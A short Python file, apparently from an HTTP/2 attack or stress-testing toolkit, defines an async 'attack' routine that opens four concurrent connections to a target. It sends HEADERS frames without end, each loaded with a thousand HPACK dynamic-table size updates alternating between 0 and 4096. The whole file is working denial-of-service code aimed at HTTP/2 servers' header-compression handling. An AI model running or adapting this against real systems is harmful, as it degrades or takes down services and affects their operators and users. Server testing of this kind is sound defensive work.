"""Sizes of HPACK's table that change in each request, without end."""

from wire.http2 import END_HEADERS, END_STREAM, HEADERS, fields, frame, http2, integer


async def attack(target):
    async def lane(number):
        async with http2(target, target.source(number)) as it:
            stream = 1
            while it and target.goes_on():
                sizes = b"".join(integer(size, 5, 0x20) for size in (0, 4096) * 500)
                await it.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, sizes + fields(path=b"/small")))
                stream += 2

    await target.lanes(4, lane)
